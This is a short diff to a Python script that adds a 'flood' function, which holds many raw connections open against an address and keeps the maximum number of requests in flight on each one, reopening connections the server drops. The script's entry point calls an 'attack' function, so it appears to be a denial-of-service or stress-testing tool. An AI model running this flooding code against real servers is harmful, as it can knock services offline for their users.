@@ -75,5 +75,30 @@ def _call(connection: RawConnection, kind: str, paths: list[str], numbers: range
         connection.send(connection.begin(paths[k % len(paths)], headers), content)
 
 
+def flood(address: str, path: str, connections: int, calls: int, is_over: Callable[[int, int], bool]) -> None:
+    """Keeps so many calls open on each of so many connections. `is_over` is asked again and again; it gets how many
+    calls and how many connections the other side has ended."""
+    opened: list[tuple[RawConnection, set[int]]] = []
+    ended_calls = ended_connections = 0
+    try:
+        while not is_over(ended_calls, ended_connections):
+            opened += [(RawConnection(address), set()) for _ in range(connections - len(opened))]
+            for connection, under_way in opened:
+                ended_calls += len(under_way & connection.ended)
+                under_way -= connection.ended
+                connection.ended.clear()
+                while len(under_way) < calls and not connection.is_closed:
+                    under_way.add(connection.begin(path))
+                connection.pump()
+            ended_connections += sum(connection.is_closed for connection, _ in opened)
+            for connection, _ in opened:
+                if connection.is_closed:
+                    connection.close()
+            opened = [each for each in opened if not each[0].is_closed]
+    finally:
+        for connection, _ in opened:
+            connection.close()
+
+
 if __name__ == "__main__":
     attack(sys.argv[1], sys.argv[2], sys.argv[3:])
